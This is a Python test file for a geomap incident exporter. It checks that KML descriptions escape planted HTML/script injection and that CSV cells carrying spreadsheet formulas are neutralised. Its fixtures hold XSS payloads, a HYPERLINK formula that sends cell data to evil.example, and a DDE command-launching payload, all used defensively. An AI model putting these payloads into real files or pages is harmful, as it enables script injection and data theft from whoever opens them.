"""Report text is untrusted: exports must not hand it to Google Earth as markup or to a spreadsheet as a formula."""

from __future__ import annotations

import copy
import xml.etree.ElementTree as ET

import pandas as pd
import pyogrio

from geomap.io import export_incidents

HOSTILE_SENTENCE = 'Shelling hit Ganja <img src=x onerror=alert(1)> <script>alert("kml")</script> at night.'


def hostile(incidents: list[dict]) -> list[dict]:
    """The Ganja shelling with markup and formulas planted in every piece of report-derived text."""
    incident = copy.deepcopy(incidents[0])
    incident["claimant"] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") <b>bold</b>"
    incident["denied_by"] = ["@SUM(1+1)*cmd|' /C calc'!A0", "<i>Armenia</i>"]
    incident["sources"][0]["sentence"] = HOSTILE_SENTENCE
    incident["sources"][0]["publisher"] = "+Reuters <a href=javascript:alert(2)>x</a>"
    incident["places"][0]["name"] = "-Ganja<svg onload=alert(3)>"
    return [incident]


def test_kml_description_carries_report_text_as_escaped_text_not_markup(incidents, tmp_path):
    path = export_incidents(hostile(incidents), tmp_path / "hostile.kml", fmt="kml")
    description = pyogrio.read_dataframe(path).loc[0, "description"]
    root = ET.parse(path).getroot()
    from_xml = [e.text for e in root.iter() if e.tag.endswith("description")]
    for text in (description, *from_xml):  # what Google Earth renders as HTML after unescaping the XML
        assert "&lt;img src=x onerror=alert(1)&gt;" in text and "&lt;script&gt;" in text
        assert "<img" not in text and "<script" not in text and "<svg" not in text and "<a href" not in text
        assert "&lt;b&gt;bold&lt;/b&gt;" in text and "&lt;i&gt;Armenia&lt;/i&gt;" in text
        assert "<br>" in text  # lines are joined as HTML line breaks


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted(incidents, tmp_path):
    rows = hostile(incidents)
    rows[0]["sources"][0]["sentence"] = "=1+1 killed"
    rows[0]["places"][0]["admin1"] = "\tGanja-Gazakh"
    path = export_incidents(rows, tmp_path / "hostile.csv", fmt="csv")
    row = pd.read_csv(path, keep_default_na=False, dtype=str).iloc[0]
    assert row["notes"] == "'=1+1 killed"
    assert row["claimant"].startswith("'=HYPERLINK(")
    assert row["denied_by"].startswith("'@SUM(1+1)")
    assert row["source"].startswith("'+Reuters")
    assert row["location"].startswith("'-Ganja")
    assert row["admin1"] == "'\tGanja-Gazakh"
    # numbers and ISO dates are written as they are
    assert (row["event_date"], row["year"], row["latitude"], row["fatalities"]) == ("2020-10-11", "2020", "40.68157", "9")


def test_csv_keeps_negative_coordinates_as_numbers(incidents, tmp_path):
    west = copy.deepcopy(incidents[0])
    west["places"][0].update(lat=-12.5, lon=-77.03)
    table = pd.read_csv(export_incidents([west], tmp_path / "west.csv", fmt="csv"))
    assert (table.loc[0, "latitude"], table.loc[0, "longitude"]) == (-12.5, -77.03)
